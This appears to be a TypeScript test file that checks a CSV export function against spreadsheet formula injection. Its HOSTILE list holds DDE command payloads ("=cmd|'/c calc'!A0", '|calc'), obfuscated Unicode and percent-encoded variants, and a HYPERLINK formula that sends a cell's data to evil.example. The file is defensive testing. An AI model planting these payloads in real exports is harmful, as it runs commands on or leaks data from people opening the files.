import fc from 'fast-check';
import { expect, test } from 'vitest';
import { csvCell, csvRow } from '../../domain/csv-cell.ts';

/** Cells as RFC 4180 reads them. */
function parsed(csv: string): string[][] {
  const rows: string[][] = [[]];
  for (let at = 0, cell = ''; at <= csv.length; at += 1) {
    if (csv[at] === '"' && cell === '') {
      const end = /^"((?:[^"]|"")*)"/.exec(csv.slice(at))!;
      cell = end[1]!.replaceAll('""', '"');
      at += end[0].length - 1;
      if (cell === '') {
        rows.at(-1)!.push('');
        at += 1;
        if (csv[at] === '\r') {
          rows.push([]);
          at += 1;
        }
      }
    } else if (csv[at] === ',' || csv[at] === undefined || csv.startsWith('\r\n', at)) {
      rows.at(-1)!.push(cell);
      cell = '';
      if (csv[at] === '\r') {
        rows.push([]);
        at += 1;
      }
    } else cell += csv[at];
  }
  return rows.slice(0, -1);
}

/** Returns whether a program that drops invisible characters would see a formula. */
const isLive = (cell: string): boolean =>
  /^[=+\-@|]/.test(
    cell
      .normalize('NFKC')
      .replace(/^[\s\p{Z}\p{C}"]+/u, '')
      .replace('−', '-'),
  );

/** Decodes like programs that resolve the escapes of addresses and HTML before they split cells. */
const decoded = (text: string): string =>
  text
    .replaceAll(/%(0[9ad]|20|22)/gi, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))
    .replaceAll(/&#(?:x([\da-f]{1,6})|(\d{1,6}));?/gi, (_, hex?: string, digits?: string) =>
      String.fromCodePoint(hex ? Number.parseInt(hex, 16) : Number(digits)),
    );

const HOSTILE = [
  '=1+1',
  '+1',
  '-1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  ' =1+1',
  '   +1',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\u200B=1+1',
  '\uFEFF=1+1',
  '\u202E=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1',
  '﹢1',
  '﹣1',
  '﹫A1',
  '−1',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  '\u0001=1+1',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  '@import',
  "-2+3+cmd|' /c calc'!A0",
  '+44 20 7946 0000',
  '=1+1\r\nEve,=2+2',
  'a;=1+1',
  'a\n=1+1',
  'a\r\n"=1+1',
  'a\t=1+1',
  'x;;  @SUM(1)',
  '\t',
  '\0',
  '|calc',
  '| /c calc',
  ' |calc',
  '｜calc',
  'a;|calc',
  'a\n|calc',
  '%0A=1+1',
  '%0d%0a=1+1',
  '%09|calc',
  'a%0A=1+1',
  'a%0D%0A@SUM(1)',
  'a%0a%20"+1',
  '&#10;=1+1',
  'a&#x0A;-1',
  'a&#13&#10;=1+1',
];

test.each(HOSTILE)('%j is text in every spreadsheet, and still one cell', (text) => {
  const [row, ...others] = parsed(csvRow(['Ada', text, 'Verne']));
  expect(others).toEqual([]);
  expect(row).toHaveLength(3);
  const [, cell = ''] = row!;
  expect(isLive(cell)).toBe(false);
  // For programs that split cells at semicolons, tabs or line breaks, and read quotes inside a cell as text.
  for (const part of csvRow(['Ada', text, 'Verne']).split(/[;\t\r\n]/)) expect(isLive(part)).toBe(false);
  // For programs that first resolve the escapes of addresses or HTML.
  for (const part of decoded(cell).split(/[;\t\r\n]/)) expect(isLive(part)).toBe(false);
  expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
});

test('text that is no formula stays exactly the same', () => {
  for (const text of [
    '',
    'Ada',
    'Marlow, Grace',
    'says "hi"',
    'two\r\nlines',
    'a-b+c=d@e',
    'ada@example.org',
    '1,5',
    'Å;ß',
    '名前',
    ' leads with a blank',
    'a|b',
    '100%',
    '5 %0',
    'x%0Ay',
    'a&#10;b',
  ]) {
    expect(parsed(csvRow([text, 'x']))).toEqual([[text, 'x']]);
  }
});

test('cells are quoted if their content requires it', () => {
  expect([csvCell('Ada'), csvCell('a,b'), csvCell('a"b'), csvCell('=1'), csvCell(' a'), csvCell('a ')]).toEqual([
    'Ada',
    '"a,b"',
    '"a""b"',
    "'=1",
    '" a"',
    '"a "',
  ]);
});

test('whatever people write, rows stay intact and nothing is executed', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 5 }), (cells) => {
      const rows = parsed(csvRow(cells));
      expect(rows).toHaveLength(1);
      expect(rows[0]).toHaveLength(cells.length);
      expect(rows[0]!.some(isLive)).toBe(false);
    }),
    { numRuns: 40 },
  );
});

test('a cell of many spaces is checked quickly', () => {
  const began = performance.now();
  csvCell('\t'.repeat(100_000));
  csvCell(`a${'; '.repeat(50_000)}`);
  expect(performance.now() - began).toBeLessThan(2000);
});
